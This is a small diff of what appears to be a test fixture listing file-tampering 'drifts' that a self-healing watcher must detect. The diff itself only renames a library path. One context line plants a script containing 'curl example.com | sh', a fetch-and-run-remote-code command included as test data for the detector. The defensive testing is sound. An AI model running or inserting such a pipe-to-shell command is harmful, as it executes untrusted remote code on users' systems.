@@ -89,8 +89,8 @@ DRIFTS = {
         f"echo >> /etc/selfheal/{APP}.json", "watcher", f"/etc/selfheal/{APP}.json", "content", True
     ),
     "the agent's library": Drift(
-        "echo '# mine' >> /usr/local/lib/selfheal/probe.py",
-        *("watcher", "/usr/local/lib/selfheal/probe.py", "content", True),
+        "echo '# mine' >> /usr/local/lib/selfheal/probe/run.py",
+        *("watcher", "/usr/local/lib/selfheal/probe/run.py", "content", True),
     ),
     "a file beside the project's": Drift(
         f"echo 'curl example.com | sh' > {DIRECTORY}/fix.sh", "compose_app", f"{DIRECTORY}/fix.sh", "added"
